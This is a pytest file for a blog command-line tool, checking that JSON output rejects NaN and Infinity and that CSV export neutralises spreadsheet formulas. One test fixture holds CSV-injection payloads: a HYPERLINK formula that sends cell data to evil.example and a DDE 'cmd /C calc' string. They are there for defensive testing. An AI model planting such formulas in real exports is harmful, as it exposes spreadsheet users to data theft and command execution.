"""JSON output is strict JSON (item 8) and CSV is safe to open in a spreadsheet (item 9)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import write

from postctl.render.machine import defused, dumps, write_csv


def _strict(text: str) -> Any:
    """json.loads that refuses NaN and Infinity, as jq, browsers and serde do."""

    def refuse(name: str) -> None:
        raise ValueError(f"not JSON: {name}")

    return json.loads(text, parse_constant=refuse)


def non_finite_blog(blog: Path) -> None:
    write(
        blog / "articles/yaml.md",
        "---\ntitle: Y\ndate: 2025-01-02\nscore: .nan\nbig: -.inf\nnested: {a: [.inf]}\n"
        "---\nPools here.\n",
    )
    write(blog / "articles/toml.md", '+++\ntitle = "T"\ndate = 2025-01-03\nz = nan\n+++\nPools.\n')
    write(blog / "articles/json.md", '{"title": "J", "date": "2025-01-04", "x": 1e999}\nPools.\n')


@pytest.mark.parametrize(
    "args",
    [
        ("list", "--format", "json"),
        ("list", "--format", "jsonl"),
        ("show", "yaml", "--format", "json"),
        ("show", "toml", "--format", "json"),
        ("show", "json", "--format", "json"),
        ("search", "pools", "--format", "json"),
        ("search", "pools", "--format", "jsonl"),
        ("stats", "--format", "json"),
        ("index", "--format", "json"),
        ("check", "--format", "json"),
        ("reading-time", "--format", "json"),
    ],
    ids=" ".join,
)
def test_json_output_is_strict_json(
    blog: Path, run: Callable[..., Any], args: tuple[str, ...]
) -> None:
    non_finite_blog(blog)
    res = run(*args)
    assert res.exit_code in (0, 1), res.stderr
    lines = res.stdout.splitlines() if "jsonl" in args else [res.stdout]
    assert all(_strict(line) is not None for line in lines)
    assert "NaN" not in res.stdout and "Infinity" not in res.stdout


def test_non_finite_numbers_are_written_as_null(blog: Path, run: Callable[..., Any]) -> None:
    non_finite_blog(blog)
    records = {r["title"]: r for r in _strict(run("list", "--format", "json").stdout)}
    assert records["Y"]["extra"] == {"score": None, "big": None, "nested": {"a": [None]}}
    assert records["T"]["extra"] == {"z": None}
    assert records["J"]["extra"] == {"x": None}
    assert dumps({"a": float("nan"), "b": [1.5, float("inf")]}, indent=None) == (
        '{"a": null, "b": [1.5, null]}'
    )


def test_csv_cells_that_a_spreadsheet_would_run_are_text(
    blog: Path, run: Callable[..., Any]
) -> None:
    write(
        blog / "articles/evil.md",
        "---\n"
        'title: \'=HYPERLINK("http://evil.example/?"&A1,"click")\'\n'
        "date: 2025-01-02\n"
        "description: \"+cmd|' /C calc'!A0\"\n"
        "category: '@SUM(1+1)'\n"
        'tags: ["=1+1", "-2+3", "safe"]\n'
        "---\nBody.\n",
    )
    rows = list(csv.DictReader(io.StringIO(run("list", "--format", "csv").stdout)))
    assert rows[0]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows[0]["description"] == "'+cmd|' /C calc'!A0"
    # Lists are JSON text; a list never starts with a formula character.
    assert json.loads(rows[0]["tags"]) == ["=1+1", "-2+3", "safe"]
    assert rows[0]["reading_minutes"] == "1"
    tags = list(csv.DictReader(io.StringIO(run("tags", "--format", "csv").stdout)))
    assert {t["name"] for t in tags} == {"'=1+1", "'-2+3", "safe"}
    cats = list(csv.DictReader(io.StringIO(run("categories", "--format", "csv").stdout)))
    assert [c["name"] for c in cats] == ["'@SUM(1+1)"]


def test_defused_follows_owasp() -> None:
    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert defused(text) == "'" + text
    for text in ("", "a=1", "1-2", " =1", "'quoted"):
        assert defused(text) == text
    out = io.StringIO()
    write_csv([{"n": -3, "f": float("nan"), "s": "-3"}], ("n", "f", "s"), out)
    assert out.getvalue() == "n,f,s\n-3,,'-3\n"  # numbers stay numbers
